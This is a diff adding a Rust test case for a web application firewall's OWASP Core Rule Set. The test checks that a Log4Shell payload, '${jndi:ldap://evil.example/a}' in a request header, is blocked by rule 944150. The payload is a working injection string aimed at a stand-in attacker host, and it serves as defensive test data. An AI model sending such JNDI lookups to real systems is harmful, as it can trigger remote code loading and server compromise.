@@ -193,6 +193,25 @@ fn crs4_loads_blocks_attacks_and_passes_benign_traffic() {
             .any(|id| (930000..931000).contains(id))
     );
 
+    // Log4Shell in a header (944150).
+    let jndi = run(
+        &rs,
+        "GET",
+        "/a",
+        &[("X-Api-Version", "${jndi:ldap://evil.example/a}")],
+        b"",
+    );
+    assert!(
+        jndi.interruption().is_some(),
+        "jndi passed: {:?}",
+        jndi.matched_rule_ids()
+    );
+    assert!(
+        jndi.matched_rule_ids().contains(&944150),
+        "{:?}",
+        jndi.matched_rule_ids()
+    );
+
     // A regex selector with escapes (921250, REQUEST_COOKIES:/\x22?\x24Version/).
     let v1 = run(&rs, "GET", "/a", &[("Cookie", "$Version=1; sid=abc")], b"");
     assert!(
